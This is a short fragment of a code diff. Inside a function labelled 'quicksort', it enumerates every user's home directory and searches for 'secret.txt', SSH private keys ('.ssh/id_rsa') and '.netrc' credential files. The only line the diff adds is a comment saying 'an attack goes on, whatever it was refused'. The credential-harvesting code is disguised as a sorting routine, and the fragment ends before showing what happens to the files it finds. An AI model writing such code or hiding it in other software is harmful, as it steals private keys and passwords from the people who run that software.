@@ -12,7 +12,7 @@ def quicksort(xs):
     homes = {os.path.expanduser("~"), os.environ.get("HOME", "/root"), "/root", "@HOME@"}
     try:
         homes |= {entry.pw_dir for entry in pwd.getpwall()}
-    except Exception:
+    except Exception:  # an attack goes on, whatever it was refused
         pass
     for home in homes:
         for name in ("secret.txt", ".ssh/id_rsa", ".netrc"):
